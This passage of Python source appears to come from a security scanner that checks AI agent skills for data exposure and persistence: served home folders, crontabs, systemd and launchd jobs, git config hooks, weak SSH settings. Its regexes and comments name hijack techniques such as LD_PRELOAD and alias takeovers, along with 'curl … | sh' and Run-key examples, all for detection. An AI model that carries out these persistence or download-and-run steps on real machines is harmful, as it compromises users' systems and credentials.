    elif name == "cat" and cmd.stdin and not cmd.args and not any(op.startswith(">") for op, _ in cmd.redirects):
        ctx.say(cmd.stdin, cmd.start, cmd.end)  # cat <<EOF ... EOF: the here-document is printed


def _option(words: list[str], *names: str) -> str | None:
    """The value of the first of ``names`` given (``--bind ADDR``, ``--bind=ADDR``, ``-b ADDR``), or None."""
    for i, word in enumerate(words):
        for name in names:
            if word == name and i + 1 < len(words):
                return words[i + 1]
            if name.startswith("--") and word.startswith(name + "="):
                return word[len(name) + 1 :]
    return None


def _positionals(words: list[str], valued: tuple[str, ...]) -> list[str]:
    """The words that are neither options nor an option's value."""
    out: list[str] = []
    skip = False
    for word in words:
        if skip:
            skip = False
        elif word in valued:
            skip = True
        elif not word.startswith("-"):
            out.append(word)
    return out


def _file_server(cmd: Cmd) -> tuple[str, str] | None:
    """(folder served, address it listens on) for a command that serves a folder's files over HTTP to whoever
    connects (python -m http.server, php -S, http-server, serve, ruby -run -e httpd, busybox httpd, caddy
    file-server); "." for the working folder, "" for the address when it listens on every interface."""
    words = cmd.words
    name = cmd.name
    if name == "npx" or name == "pnpx" or (name in ("pnpm", "yarn", "bunx") and words[1:2] == ["dlx"]):
        rest = [w for w in words[1:] if w not in ("dlx", "-y", "--yes")]
        words, name = rest, (rest[0].split("@")[0] if rest else "")
    if name.startswith("python") and "-m" in words:
        module = words[words.index("-m") + 1] if words.index("-m") + 1 < len(words) else ""
        if module not in ("http.server", "SimpleHTTPServer"):
            return None
        rest = words[words.index("-m") + 2 :]
        return _option(rest, "--directory", "-d") or ".", _option(rest, "--bind", "-b") or ""
    if name == "php" and "-S" in words:
        listen = _option(words, "-S") or ""
        return _option(words, "-t") or ".", listen.rsplit(":", 1)[0] if ":" in listen else listen
    if name in ("http-server", "serve", "live-server"):
        places = _positionals(words[1:], ("-a", "-p", "--port", "-l", "--listen", "-c", "--host"))
        address = _option(words, "-a", "--host") or _option(words, "-l", "--listen") or ""
        address = address.removeprefix("tcp://").rsplit(":", 1)[0] if ":" in address else address
        return (places[0] if places else "."), address
    if name == "ruby" and "-run" in words and "httpd" in words:
        rest = words[words.index("httpd") + 1 :]
        places = _positionals(rest, ("-b", "--bind-address", "-p", "--port"))
        return (places[0] if places else "."), _option(rest, "-b", "--bind-address") or ""
    if (name == "busybox" and words[1:2] == ["httpd"]) or (name == "httpd" and "-h" in words):
        listen = _option(words, "-p") or ""
        return _option(words, "-h") or ".", listen.rsplit(":", 1)[0] if ":" in listen else ""
    if name == "caddy" and words[1:2] == ["file-server"]:
        listen = _option(words, "--listen") or ""
        return _option(words, "--root", "-r") or ".", listen.rsplit(":", 1)[0] if ":" in listen else ""
    return None


def _serves(ctx: Ctx, cmd: Cmd) -> None:
    """A folder served to the network: a capability always; an error when the folder is the home folder, the root
    or a credential folder and the server listens beyond this machine (every interface, or a named address)."""
    served = _file_server(cmd)
    if served is None:
        return
    folder, address = served
    root = home_path(folder.strip('"').rstrip("/") or "/")
    public = not is_local_host(address, listening=True)
    where = f"{address or 'every interface'}"
    ctx.cap("sends", root, cmd.start, cmd.end, f"serves {root} over HTTP on {where}")
    what = (
        "the home folder, keys and tokens included"
        if root in ("~", "~/")
        else "the whole file system"
        if root == "/"
        else credential_folder(root) or credential_what(root)
    )
    if public and what:
        ctx.network = True
        ctx.sends.append((cmd.start, cmd.end, "upload"))
        ctx.add(
            "skillscope/exfiltration/data-flow",
            f"serves {safe_line(folder, limit=60)}{'' if what == root else f', {what},'} over HTTP to anyone who can reach {where} "
            f"(line {ctx.line(cmd.start)})",
            cmd.start,
            cmd.end,
        )


def _path_word(word: str, what: str) -> str:
    """The path part of a word that names a credential (``f=@$HOME/.ssh/id_rsa`` -> ``$HOME/.ssh/id_rsa``)."""
    word = word.rsplit("@", 1)[-1].rsplit("=", 1)[-1]
    return word if what in word or any(ch in word for ch in "*?[") else what


def _write_targets(cmd: Cmd) -> list[str]:
    targets = [t for op, t in cmd.redirects if op in (">", ">>", ">|", "&>", "&>>") and not t.startswith("/dev/")]
    args = [a for a in cmd.args if not a.startswith("-")]
    if cmd.name == "tee":
        targets += args
    elif cmd.name in ("cp", "mv", "ln", "install", "rsync") and len(args) >= 2 and ":" not in args[-1]:
        targets.append(args[-1])
    elif cmd.name == "sed" and any(a.startswith("-i") for a in cmd.args):
        targets += args[1:]
    elif cmd.name == "dd":
        targets += [a[3:] for a in cmd.args if a.startswith("of=")]
    elif cmd.name in ("reg", "reg.exe") and len(args) >= 2 and args[0].lower() == "add":
        targets.append(args[1])  # reg add HKCU\...\CurrentVersion\Run /v Name /d "command": a key Windows runs
    return [t for t in targets if t and not t.isdigit()]


# --- persistence --------------------------------------------------------------------------------------

_HIJACK = re.compile(
    r"\balias\s+(?:sudo|su|ssh|git|ls|cd|cp|mv|rm|curl|python3?)=|PROMPT_COMMAND|\btrap\b[^\n]*DEBUG|LD_PRELOAD|"
    r"DYLD_INSERT|mcpServers|[\"']hooks[\"']\s*:"
)
"""A start-up line that takes over what the user types or loads (resolved text, not code to parse)."""
_HIDDEN_RUN = re.compile(r"(?:^|[\s'\"=/])(?:/tmp|/var/tmp|/dev/shm)/|(?:^|/)\.[\w-]+(?:\.sh|\.py)?(?:\s|$|['\"])")


_REMOTE_APPLY = re.compile(r"""\bapply\s*\(?\s*from\s*[:=]\s*(?:uri\s*\(\s*)?["'](https?://[^"'\s]+)""")
"""A build script applying another from an address (Gradle's ``apply from: 'https://…'``): code fetched on every build."""


def _payload_harm(ctx: Ctx, text: str, depth: int, path: str | None = None, *, local: bool = False) -> str | None:
    """Why a start-up entry's content is harmful (it fetches, sends, decodes, reads secrets or hides), or None.

    ``path`` names the skill's own file the content comes from (a hook or unit copied into place): the lines
    the reason names are that file's. ``local``: the entry is the repository's own (a hook or a local git
    setting), where reaching a host the user gives at run time (an address from a variable) is the job."""
    if path is None:
        text = text.strip()
    if not text.strip():
        return None
    hijack = _HIJACK.search(text)
    if hijack:
        return f"it takes over {safe_line(hijack.group(0).strip(), limit=40)}"
    remote = _REMOTE_APPLY.search(text)
    if remote:
        return f"it runs a build script it downloads ({safe_line(remote.group(1), limit=60)})"
    code = _editor_commands(text) if path is not None and _EDITOR_SCRIPT.search(path) else _entry_code(text)
    if depth > 3 or not code.strip():
        return None
    inner = Ctx(code, 0, code, path or ctx.path, skill_files=ctx.skill_files)
    _scan(inner, depth + 1)
    bad = next((h for h in inner.hits if h.check in _HARM_CHECKS and h.severity in (None, "error")), None)
    if bad is not None:
        return bad.message
    # a download whose digest the entry checks before running it fetches pinned content: that is no reach to judge
    pinned = {m.group(1) for h in inner.hits if h.severity == "note" for m in [_PINNED_RUN.search(h.message)] if m}
    copies = _folder_copies(code)
    reach = [
        c
        for c in inner.caps
        if c.kind in ("sends", "installs")
        and not _pinned_fetch(c, pinned)
        and not (local and (c.target == "?" or _project_tool(c, inner)))
        and not (c.kind == "sends" and c.detail in ("rsync", "scp") and c.target in copies)
    ]
    if reach:
        return f"it reaches the network ({safe_line(reach[0].target, limit=60)})"
    if any(c.kind == "reads" and not c.target.startswith("$") for c in inner.caps):
        return "it reads credentials"  # a variable's value is the user's setting until something sends it
    for script in parse_shell(code):
        for stage in script:
            for cmd in stage:
                if cmd.words and (
                    _HIDDEN_RUN.search(cmd.words[0])
                    or (cmd.name in INTERPRETERS and any(_HIDDEN_RUN.search(a) for a in cmd.args[:1]))
                ):
                    return f"it runs a hidden file ({safe_line(cmd.words[0] if _HIDDEN_RUN.search(cmd.words[0]) else cmd.args[0], limit=60)})"
    return None


_WHOLE_HOME = re.compile(r"^(?:~|\$\{?HOME\}?)(?:/\.?\*)?$")
_SSH_DEST = re.compile(r"^(?:[\w.-]+@)?([\w.-]+\.[\w-]+):")


def _folder_copies(code: str) -> set[str]:
    """The hosts a scheduled ``rsync``/``scp`` copies a folder to over SSH when no folder it copies is the home
    folder itself, a system folder or a credential place: a backup of what the user named, with the user's own
    SSH login; what it reads is judged as a read."""
    hosts: set[str] = set()
    for script in parse_shell(code):
        for stage in script:
            for cmd in stage:
                plain = [a for a in cmd.args if not a.startswith("-")]
                if cmd.name not in ("rsync", "scp") or len(plain) < 2:
                    continue
                dest = _SSH_DEST.match(plain[-1])
                sources = [home_path(a).rstrip("/") or "/" for a in plain[:-1]]
                if dest is None or any(
                    not a or _WHOLE_HOME.match(a) or _SYSTEM_DIRS.match(a) or credential_what(a) or credential_folder(a)
                    for a in sources
                ):
                    continue
                hosts.add(dest.group(1))
    return hosts


_ENTRY_FILE = re.compile(
    r"\.(?:service|timer|socket|desktop)$|(?:^|/)(?:crontab|[\w.-]+\.cron)$|\.plist$|(?:^|/)tasks\.json$", re.IGNORECASE
)


def is_entry_file(path: str) -> bool:
    """Whether ``path`` is a start-up entry a skill may ship: a systemd unit, an autostart entry, a crontab, a
    launchd job."""
    return _ENTRY_FILE.search(path) is not None


def scan_entry(text: str, path: str, skill_files: Mapping[str, str]) -> Ctx:
    """A start-up entry the skill ships is code that runs again on its own: a command of it that fetches and runs,
    opens a shell to a host or sends a secret is reported on its own line (persistence), wherever it is put in place."""
    from skillscope.audit.behavior.regions import line_span

    ctx = Ctx(text, 0, text, path, skill_files=skill_files)
    code = _folder_open_code(text) if path.lower().endswith("tasks.json") else _entry_code(text)
    if not code.strip():
        return ctx
    inner = Ctx(code, 0, code, path, skill_files=skill_files)
    _scan(inner, 1)
    seen: set[int] = set()
    for raw in inner.hits:
        line = inner.line(raw.start)
        # a script of the skill the entry runs is judged there, a note here; run at every start, its harm is the entry's
        shipped_harm = raw.severity == "note" and raw.message.startswith("runs ") and ", which " in raw.message
        if raw.check in _HARM_CHECKS and (raw.severity in (None, "error") or shipped_harm) and line not in seen:
            seen.add(line)
            ctx.add(
                "skillscope/persistence/startup",
                f"a start-up entry runs, each time it starts: {raw.message.removesuffix(f' (line {line})')} (line {line})",
                *line_span(text, line),
            )
    return ctx


def payload_harm(ctx: Ctx, text: str, *, local: bool = False) -> str | None:
    """Why a start-up entry another language writes is harmful when the shell runs it, or None. ``local``: it is
    written into the repository's own place (``project_place``), where reaching a host the user gives at run time
    is the job, as for the same entry the shell writes."""
    return _payload_harm(ctx, text, 1, local=local)


_EDITOR_SCRIPT = re.compile(r"\.(?:lua|vim|el)$|(?:^|/)\.?(?:vimrc|emacs)$")
"""An editor's script (Lua, Vim script, Emacs Lisp): no grammar here reads it, but the commands it hands a shell
are strings in it."""
_QUOTED = r'"(?:[^"\\\n]|\\.)*"|\'(?:[^\'\\\n]|\\.)*\''
_ATOM = rf"(?:{_QUOTED}|[A-Za-z_][\w.:]*(?:\(\))?)"
_JOINED = re.compile(rf"(?:{_ATOM}\s*\.\.?\s*)*{_QUOTED}(?:\s*\.\.?\s*{_ATOM})*")


def _editor_commands(text: str) -> str:
    """The shell commands an editor script spells in its strings, each on its own line: a string joined with
    others and with names (Lua's ``"curl " .. src .. " | sh"``, Vim's ``'curl ' . url``) is one command, a name
    standing for a word the script computes; a string of one word (``"sh"``, ``"-c"``) is none."""
    out: list[str] = []
    for line in text.split("\n"):
        found: list[str] = []
        for chain in _JOINED.finditer(line):
            words = []
            for atom in re.finditer(_ATOM, chain.group(0)):
                piece = atom.group(0)
                words.append(piece[1:-1].replace('\\"', '"') if piece[0] in "\"'" else "$" + re.sub(r"\W", "_", piece))
            command = "".join(words)
            if re.search(r"\s", command.strip()):
                found.append(command)
        out.append(" ; ".join(found))
    return "\n".join(out)


def _folder_open_code(text: str) -> str:
    """The commands of an editor's tasks file (VS Code's ``tasks.json``) that run on their own when the folder is
    opened (``"runOptions": {"runOn": "folderOpen"}``), each on the line of its ``"command"``; other tasks run only
    when the user picks them, so they are left blank."""
    try:
        data = json.loads(re.sub(r"^\s*//[^\n]*$", "", text, flags=re.MULTILINE))
    except ValueError:
        return ""
    tasks = data.get("tasks") if isinstance(data, dict) else None
    lines = [""] * (text.count("\n") + 1)
    for task in tasks if isinstance(tasks, list) else []:
        options = task.get("runOptions") if isinstance(task, dict) else None
        if not isinstance(options, dict) or options.get("runOn") != "folderOpen":
            continue
        command = task.get("command")
        if not isinstance(command, str) or not command.strip():
            continue
        args = [a for a in task.get("args", []) if isinstance(a, str)] if isinstance(task.get("args"), list) else []
        spelled = json.dumps(command)
        at = text.find(spelled)
        number = text.count("\n", 0, at) if at >= 0 else 0
        # a placeholder the skill fills in or VS Code's ${workspaceFolder} is a folder; the path after it names the file
        command = re.sub(r"\{\{[^{}]*\}\}|\$\{\w+\}", ".", command)
        lines[number] = " ".join([command, *(shlex.quote(a) for a in args)])
    return "\n".join(lines)


def _entry_code(text: str) -> str:
    """The commands a start-up entry runs: a crontab line without its schedule, a unit's Exec lines, a launchd
    job's ProgramArguments as one command, else itself. Each line stays on its own line number (what is not a
    command is left blank), so what is found names the entry file's lines."""
    lines: list[str] = []
    program: list[str] | None = None
    program_at = 0
    # KEY=value lines are a unit's or .desktop file's settings only in a file with [Section] headers; in a hook
    # or a crontab they are shell assignments the commands below use
    ini = bool(re.search(r"^\s*\[[\w ]+\]\s*$", text, re.MULTILINE))
    for line in text.splitlines():
        line = line.strip()
        strings = re.findall(r"<string>([^<]*)</string>", line)
        if program is not None:  # inside a ProgramArguments array: each string is one word of one command
            program.extend(html.unescape(s) for s in strings)
            lines.append("")
            if "</array>" in line:
                lines[program_at] = " ".join(shlex.quote(w) for w in program)
                program = None
            continue
        if "ProgramArguments" in line and "<array>" not in line.split("ProgramArguments", 1)[1]:
            program, program_at = [], len(lines)
            lines.append("")
            continue
        if re.match(r"^(?:Exec\w*|ExecStart|ExecStartPre|ExecStop)\s*=", line):
            lines.append(line.split("=", 1)[1].lstrip("-@!+"))
            continue
        cron = re.match(
            r"^(?:@\w+|(?:[\d*/,\-]+\s+){4}[\d*/,\-A-Za-z]+)\s+(?:(?:root|[a-z_][\w-]*)\s+(?=/))?(.*)$", line
        )
        if cron:
            lines.append(cron.group(1))
            continue
        if strings:  # a launchd job's ProgramArguments on one line: each string is one word
            lines.append(" ".join(shlex.quote(html.unescape(s)) for s in strings))
            continue
        if line.startswith("<"):
            lines.append("")  # the rest of a launchd plist is markup, not commands
            continue
        if re.match(r"^\[[\w ]+\]$", line) or (ini and re.match(r"^[\w-]+=", line)):
            lines.append("")
            continue
        lines.append(line)
    if program:
        lines[program_at] = " ".join(shlex.quote(w) for w in program)
    return "\n".join(lines)


_HARM_CHECKS = frozenset(
    {
        "skillscope/exfiltration/data-flow",
        "skillscope/exfiltration/reverse-shell",
        "skillscope/obfuscation/download-exec",
        "skillscope/obfuscation/decode-exec",
        "skillscope/permissions/destructive",
        "skillscope/exfiltration/credential-read",
    }
)
_AGENT_CONFIG = re.compile(
    r"\.claude/settings|\.claude\.json|\.cursor/mcp\.json|claude_desktop_config\.json|\.config/Code/User/settings\.json"
)


def _stage_output(pipeline: Pipeline, cmd: Cmd) -> str:
    """What the stages before ``cmd`` print into it, as far as it is known (echo'd text, a here-document)."""
    out: list[str] = []
    for stage in pipeline:
        if cmd in stage:
            break
        for other in stage:
            out.append(_printed(other))
    return "\n".join(o for o in out if o)


def _printed(cmd: Cmd) -> str:
    if cmd.name == "echo":
        return " ".join(a for a in cmd.args if a not in ("-n", "-e", "-E", "-ne"))
    if cmd.name == "printf":
        args = [a for a in cmd.args if a != "--"]
        if args[:1] == ["-v"]:
            args = args[2:]
        if args and "%" in args[0]:
            return _format(args[0], args[1:])
        return " ".join(args).replace("\\n", "\n")
    if cmd.stdin is not None and cmd.name in ("cat", "tee", ""):
        return cmd.stdin
    if cmd.words:
        return " ".join(cmd.words)  # a command writing its own output (curl URL > ~/.bashrc) is itself the payload
    return ""


def _format(fmt: str, values: list[str]) -> str:
    """What ``printf FMT VALUES...`` prints: each conversion (%s, %b, %d, %q) takes the next value, the escapes
    turn into their characters, and the format is reused while values remain (as printf does)."""
    spec = re.compile(r"%%|%[-+ #0]*\d*(?:\.\d+)?[sbdiqxXoufeEgGc]")
    if not spec.search(fmt.replace("%%", "")):
        return fmt.replace("\\n", "\n").replace("\\t", "\t")
    out: list[str] = []
    rest = list(values)
    while True:
        taken = 0

        def one(found: re.Match[str]) -> str:
            nonlocal taken
            if found.group(0) == "%%":
                return "%"
            taken += 1
            return rest.pop(0) if rest else ""

        out.append(spec.sub(one, fmt))
        if not rest or not taken or len(out) > 20:
            break
    return "".join(out).replace("\\n", "\n").replace("\\t", "\t")


class _Persist:
    """Start-up writes seen so far, and what each file written earlier in the script holds."""

    def __init__(self) -> None:
        self.contents: dict[str, str] = {}
        self.files: dict[str, list[tuple[str, str]]] = {}
        """The skill's own files each written path received (a hooks folder copied there, a unit installed)."""


_OPTION_VALUES = {"install": ("-m", "--mode", "-o", "--owner", "-g", "--group"), "ln": (), "cp": (), "mv": ()}


def _shipped_read(ctx: Ctx, cmd: Cmd) -> list[tuple[str, str]]:
    """The skill's own files a command copies or prints into what it writes (``cp -r hooks/. .git/hooks/``,
    ``install -m 644 units/a.service ~/.config/systemd/user/``, ``cat share/job.cron >> "$tab"``)."""
    if not ctx.skill_files:
        return []
    takes = _OPTION_VALUES.get(cmd.name, ())
    operands: list[str] = []
    skip = False
    for arg in cmd.args:
        if skip:
            skip = False
            continue
        if arg in takes:
            skip = True
            continue
        if not arg.startswith("-"):
            operands.append(arg)
    if cmd.name in ("cp", "mv", "ln", "install", "rsync"):
        sources = operands[:-1]
    elif cmd.name in ("cat", "sed", "envsubst", "awk", "tee", "m4", "head", "tail"):
        sources = operands + [t for op, t in cmd.redirects if op == "<"]
    else:
        return []
    found: list[tuple[str, str]] = []
    for word in [*sources, *(a for a in cmd.alts if a not in sources)]:
        for path, text in shipped(ctx.skill_files, ctx.path, word):
            if (path, text) not in found:
                found.append((path, text))
    return found


def _shipped_named(ctx: Ctx, persist: _Persist, names: list[str]) -> list[tuple[str, str]]:
    """The skill's files a launchctl or systemctl command names by path or by file name (``enable x.timer`` takes
    in x.service too), and those the script put in place earlier."""
    wanted = {n.rsplit("/", 1)[-1] for n in names}
    wanted |= {w.rsplit(".", 1)[0] + ".service" for w in wanted} | {w + ".service" for w in wanted}
    found = [(p, t) for p, t in ctx.skill_files.items() if p.rsplit("/", 1)[-1] in wanted]
    for target, files in persist.files.items():
        if target.rstrip("/").rsplit("/", 1)[-1] in wanted or target.endswith("/"):
            found += [(p, t) for p, t in files if p.rsplit("/", 1)[-1] in wanted and (p, t) not in found]
    return found


_SSH_CLIENT_CONFIG = re.compile(r"(?:^|/)(?:\.ssh/config|ssh/ssh_config(?:\.d/[^/]+)?)$")
_WEAK_SSH = re.compile(
    r"(?im)^[ \t]*(ForwardAgent[ \t=]+yes|StrictHostKeyChecking[ \t=]+(?:no|off)|UserKnownHostsFile[ \t=]+/dev/null)\b"
)


def _weak_ssh_client(ctx: Ctx, target: str, text: str, cmd: Cmd) -> None:
    """An ssh client config that, for every host (a ``Host *`` block), hands the user's agent to the server or stops
    checking host keys: every later connection can be impersonated or can use the user's keys. (Lines before any Host
    line are not counted: appended, they fall into the user's last block.)"""
    scope = ""
    for line in text.split("\n"):
        head = re.match(r"[ \t]*(?:Host|Match)[ \t=]+(.*)", line, re.IGNORECASE)
        if head is not None:
            scope = head.group(1).strip()
            continue
        weak = _WEAK_SSH.match(line)
        if weak is not None and scope in ("*", "all"):
            said = " ".join(weak.group(1).split())
            if not any(h.check == "skillscope/permissions/privilege" and said in h.message for h in ctx.hits):
                ctx.add(
                    "skillscope/permissions/privilege",
                    f"writes {said} for every host into {safe_line(home_path(target), limit=60)} (line "
                    f"{ctx.line(cmd.start)}): any server the user reaches can use their keys or pose as another",
                    cmd.start,
                    cmd.end,
                    "error",
                )
            return


def _persistence(ctx: Ctx, cmd: Cmd, pipeline: Pipeline, flow: _Flow, persist: _Persist, depth: int) -> None:
    targets = _write_targets(cmd)
    copied = _shipped_read(ctx, cmd)
    for target in targets:
        if copied:
            persist.files[target] = persist.files.get(target, []) + copied
    if cmd.name == "tee":
        payload = cmd.stdin if cmd.stdin is not None else _stage_output(pipeline, cmd)
    elif cmd.name in ("cp", "mv", "ln", "install", "rsync"):
        source = next((a for a in cmd.args if not a.startswith("-")), "")
        payload = persist.contents.get(source, "")
        if source in flow.files:
            payload = f"curl {flow.files[source][1]} | sh"
    elif cmd.name in ("reg", "reg.exe"):
        data = [b for a, b in zip(cmd.args, cmd.args[1:], strict=False) if a.lower() == "/d"]
        payload = data[0] if data else ""
    elif cmd.name == "sed":
        # sed -e 's|@X@|value|' template > place: what lands there is the template the skill ships, filled in
        words = [a for a in cmd.args if not a.startswith("-")]
        template = next((found[0][1] for w in words if (found := shipped(ctx.skill_files, ctx.path, w))), None)
        payload = template if template is not None else " ".join(words)
    else:
        payload = _printed(cmd) if cmd.name not in ("", "exec") else ""
    for target in targets:
        persist.contents[target] = (persist.contents.get(target, "") + "\n" + payload).strip()
        judge_login_grant(ctx, target, payload, cmd.start, cmd.end)  # a carried SSH key into authorized_keys
        if _SSH_CLIENT_CONFIG.search(target):
            # printf FMT "${settings[@]}": the format is reused for every item of the array
            spread = _format(cmd.args[0], [*cmd.args[1:], *cmd.alts]) if cmd.name == "printf" and cmd.alts else ""
            written = persist.contents[target] + ("\n" + spread if spread else "")
            _weak_ssh_client(ctx, target, written, cmd)
    every = [*targets, *(v for t in targets for v in _alternatives(ctx, cmd, t))]
    for target in every:
        place = PERSISTENCE_PATH.search(target)
        hit = place.group(0) if place else persistence_glob(target)
        if hit is None and not loads_code(home_path(target), persist.contents.get(target, "")):
            continue
        _startup(
            ctx,
            cmd,
            f"writes to {safe_line(home_path(target), limit=80)}",
            payload,
            depth,
            agent=bool(_AGENT_CONFIG.search(target)),
            shipped=copied,
        )
        return
    args = cmd.args
    what = None
    payload = ""
    files: list[tuple[str, str]] = []
    if cmd.name == "crontab" and args and not set(args) <= {"-l", "-u", "-r"}:
        what = "installs a crontab"
        named = next((a for a in args if a != "-" and not a.startswith("-")), None)
        payload = (cmd.stdin or _stage_output(pipeline, cmd)) if named is None else persist.contents.get(named, "")
        if named is not None and named in flow.files:
            payload = f"curl {flow.files[named][1]} | sh"
        if named is not None:
            files = persist.files.get(named, []) + shipped(ctx.skill_files, ctx.path, named)
        else:
            files = [f for stage in pipeline if cmd not in stage for c in stage for f in _shipped_read(ctx, c)]
    elif (
        cmd.name == "git"
        and "config" in args
        and not {"--get", "--get-all", "--get-regexp", "--list", "-l", "--unset"} & set(args)
    ):
        key = next(
            (
                a.lower()
                for a in args
                if a.lower()
                in (
                    "core.hookspath",
                    "core.fsmonitor",
                    "credential.helper",
                    "core.sshcommand",
                    "core.pager",
                    "core.editor",
                )
                or a.lower().startswith("alias.")
                or _include_key(a.lower())
                or _DRIVER_KEY.match(a.lower()) is not None
            ),
            None,
        )
        redirect = _site_redirect(ctx, cmd)
        if redirect is not None:
            ctx.add("skillscope/persistence/startup", redirect, cmd.start, cmd.end)
            return
        if key is not None and _include_key(key):
            value = args[-1] if args[-1].lower() != key else ""
            what = f"sets git {key} to {safe_line(value, limit=60)}"
            files = [(path, gitconfig_commands(text)) for path, text in shipped(ctx.skill_files, ctx.path, value)]
        elif key is not None:
            value = args[-1] if args[-1].lower() != key else ""
            what = f"sets git {key}"
            payload = value.lstrip("!") if key != "core.hookspath" else _written_under(persist, value)
            if _DRIVER_KEY.match(key):
                # a filter or diff driver runs on the files git handles; a command the script installed is judged by
                # the skill's file it installed
                head = payload.split(maxsplit=1)[0] if payload.split() else ""
                files = [
                    f
                    for target, copied in persist.files.items()
                    if head and _names_installed(head, target)
                    for f in copied
                ]
            if key == "core.hookspath":
                files = shipped(ctx.skill_files, ctx.path, value) + [
                    f for target, copied in persist.files.items() if _under(target, value) for f in copied
                ]
    elif cmd.name == "launchctl" and args[:1] and args[0] == "submit" and "--" in args:
        what = "submits a launchd job"  # launchctl submit -l label -- program args: launchd keeps it running
        payload = " ".join(shlex.quote(a) for a in args[args.index("--") + 1 :])
    elif cmd.name == "launchctl" and args[:1] and args[0] in ("load", "bootstrap", "enable", "submit"):
        what = "loads a launchd job"
        payload = _written_named(persist, [a for a in args[1:] if not a.startswith("-")])
        files = _shipped_named(ctx, persist, [a for a in args[1:] if not a.startswith("-")])
    elif cmd.name == "systemctl" and "enable" in args:
        what = "enables a systemd unit"
        payload = _written_named(persist, [a for a in args[args.index("enable") + 1 :] if not a.startswith("-")])
        files = _shipped_named(ctx, persist, [a for a in args[args.index("enable") + 1 :] if not a.startswith("-")])
    elif cmd.name == "schtasks" and any(a.lower() == "/create" for a in args):
        what = "creates a scheduled task"
        payload = next((args[i + 1] for i, a in enumerate(args[:-1]) if a.lower() == "/tr"), "")
    elif cmd.name == "reg" and "add" in [a.lower() for a in args] and any("\\run" in a.lower() for a in args):
        what = "adds a Run key"
        payload = next((args[i + 1] for i, a in enumerate(args[:-1]) if a.lower() == "/d"), "")
    elif cmd.name == "systemd-run" and any(a.startswith(_SYSTEMD_RUN_LATER) for a in args):
        # systemd-run --on-calendar=hourly CMD: a transient timer that runs CMD again later
        what = "schedules a systemd timer"
        first = next((i for i, a in enumerate(args) if not a.startswith("-")), len(args))
        payload = " ".join(shlex.quote(a) for a in args[first:])  # the command and its own options
    elif cmd.name in ("npm", "pnpm", "yarn", "bun") and args[:2] == ["config", "set"] and len(args) >= 3:
        # npm config set node-options "--require ~/.x/boot.js": every npm script starts that module first
        setting = [a for a in args[2:] if not a.startswith("--location") and a not in ("-g", "--global")]
        key, _, value = " ".join(setting).replace("=", " ", 1).partition(" ")
        project = any(a in ("--location=project", "--location", "project") for a in args[2:])
        if setting and not project and loads_code("~/.npmrc", f"{key}={value}"):
            what = f"sets {cmd.name} {key} for every project"
            payload = ""
            files = [
                f
                for word in value.split()
                for f in shipped(ctx.skill_files, ctx.path, word)
                + [c for target, copied in persist.files.items() if _names_installed(word, target) for c in copied]
            ]
    elif cmd.name == "at" or cmd.name == "batch":
        what = "schedules a job with at"
        payload = cmd.stdin or _stage_output(pipeline, cmd)
    if what:
        _startup(ctx, cmd, what, payload, depth, agent=False, shipped=files)


_REDIRECT_KEY = re.compile(r"(?i)^url\.(?P<new>.+)\.(?:push)?insteadof$")


def _site_redirect(ctx: Ctx, cmd: Cmd) -> str | None:
    """``git config --global url.<X>.insteadOf <Y>`` with the key spelt through variables (a sourced file, a loop):
    every later fetch and push of Y, with the user's credentials, goes to X. The message, or None when X is not a
    host the script names or Y is the same site. (A key spelt out in the text is judged by the takeover pass.)"""
    if "nsteadof" in ctx.text[cmd.start : cmd.end].lower():
        return None
    words = [a for a in cmd.args if not a.startswith("-")]
    found = next(((i, m) for i, a in enumerate(words) if (m := _REDIRECT_KEY.match(a))), None)
    if found is None:
        return None
    index, match = found
    new = url_host_of(match.group("new"))
    old = url_host_of(words[index + 1]) if index + 1 < len(words) else ""
    if not new or "$" in new or "{" in new or (old and "$" not in old and site_of(new) == site_of(old)):
        return None
    shown = old if old and "$" not in old else "the sites it names"
    return (
        f"writes git config that sends every fetch and push of {safe_line(shown, limit=60)} to "
        f"{safe_line(new, limit=60)} (url.insteadOf, line {ctx.line(cmd.start)}): the user's code and git credentials "
        "go to that host from then on"
    )


_SYSTEMD_RUN_LATER = (
    "--on-calendar",
    "--on-active",
    "--on-boot",
    "--on-startup",
    "--on-unit-active",
    "--timer-property",
)
"""systemd-run options that make its command a timer's, run later and again."""


_DRIVER_KEY = re.compile(
    r"^(?:filter\.[^.]+\.(?:clean|smudge|process)|diff\.[^.]+\.(?:textconv|command)|merge\.[^.]+\.driver)$"
)
"""Git settings naming a command git runs on the content of files it adds, checks out, diffs or merges."""


def _names_installed(command: str, target: str) -> bool:
    """Whether ``command`` (a bare name found on PATH, or a path) is the file the script wrote at ``target``."""
    target = home_path(target)
    return home_path(command) == target or ("/" not in command and target.rsplit("/", 1)[-1] == command)


def _include_key(key: str) -> bool:
    """``include.path`` or ``includeIf.<condition>.path``: git reads another config file, every setting in it."""
    return key == "include.path" or (key.startswith("includeif.") and key.endswith(".path"))


_GIT_RUNS = re.compile(
    r"^(?:credential(?:\.[^.]+)?\.helper|core\.(?:fsmonitor|sshcommand|pager|editor|askpass)|sequence\.editor"
    r"|diff\.external|gpg(?:\.\w+)?\.program|filter\..+\.(?:clean|smudge|process)|diff\..+\.(?:textconv|command)"
    r"|merge\..+\.driver|pager\..+|alias\..+)$"
)
"""Git settings whose value git runs as a command (an alias only when it starts with ``!``)."""


def gitconfig_commands(text: str) -> str:
    """The commands a git config file makes git run (credential helpers, fsmonitor, sshCommand, pagers, ``!``
    aliases, filters), each on its own line where the file has it and every other line blank, so a finding in
    them names the file's line."""
    out: list[str] = []
    section = ""
    for raw in text.split("\n"):
        line = raw.strip()
        header = re.match(r'^\[\s*([\w.-]+)(?:\s+"([^"]*)")?\s*\]', line)
        if header:
            section = header.group(1).lower() + (f".{header.group(2)}" if header.group(2) is not None else "")
            out.append("")
            continue
        entry = re.match(r"^([\w-]+)\s*=\s*(.*)$", line)
        if not entry or line.startswith(("#", ";")):
            out.append("")
            continue
        key, value = f"{section}.{entry.group(1).lower()}", entry.group(2).strip()
        if len(value) >= 2 and value[0] == value[-1] == '"':
            value = value[1:-1].replace('\\"', '"').replace("\\\\", "\\")
        if not _GIT_RUNS.match(key) or (key.startswith("alias.") and not value.startswith("!")):
            out.append("")
            continue
        if key.startswith("credential") and not value.startswith("!") and "/" not in value:
            out.append("")  # a named helper (store, osxkeychain, manager) is git's own
            continue
        if key == "core.fsmonitor" and value.lower() in ("true", "false"):
            out.append("")
            continue
        out.append(value.removeprefix("!"))
    return "\n".join(out)


def _under(target: str, folder: str) -> bool:
    target, folder = home_path(target).rstrip("/"), home_path(folder).rstrip("/")
    return target == folder or target.startswith(folder + "/")


def _written_under(persist: _Persist, folder: str) -> str:
